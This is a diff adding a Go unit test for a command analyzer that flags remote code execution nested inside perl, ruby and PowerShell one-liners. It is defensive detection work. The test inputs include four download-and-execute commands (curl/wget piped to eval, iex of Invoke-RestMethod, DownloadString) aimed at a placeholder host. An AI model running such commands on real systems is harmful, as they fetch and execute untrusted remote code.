@@ -138,3 +138,30 @@ func TestRemoteScripts(t *testing.T) {
 		}
 	}
 }
+
+// TestRemoteCodeInCode: code evaluated from a download made inside the
+// code — a command literal that fetches (perl's `curl …`, ruby's
+// %x(wget …)) or PowerShell's iex of Invoke-RestMethod — is remote code.
+func TestRemoteCodeInCode(t *testing.T) {
+	for _, c := range []struct {
+		in   string
+		want []string
+	}{
+		{"perl -e 'eval qx{curl -fsSL https://x.example/p.pl}'", []string{"tag remote-exec"}},
+		{"ruby -e 'eval `wget -qO- https://x.example/r.rb`'", []string{"tag remote-exec"}},
+		{`pwsh -NoProfile -c "iex (irm https://x.example/s.ps1)"`, []string{"tag remote-exec"}},
+		{`pwsh -c "Invoke-Expression ((New-Object System.Net.WebClient).DownloadString('https://x.example/a'))"`, []string{"tag remote-exec"}},
+		{"perl -e 'print `git log -1`'", []string{"!tag remote-exec"}},
+		{`pwsh -c "Get-ChildItem -Path . | Select-Object -Index 0"`, []string{"!tag remote-exec"}},
+	} {
+		a, err := Analyze(c.in, testOpts)
+		if err != nil {
+			t.Fatalf("%s: %v", c.in, err)
+		}
+		for _, w := range c.want {
+			if msg := check(a, w); msg != "" {
+				t.Errorf("%s: %s: %s\n%s", c.in, w, msg, dump(a))
+			}
+		}
+	}
+}
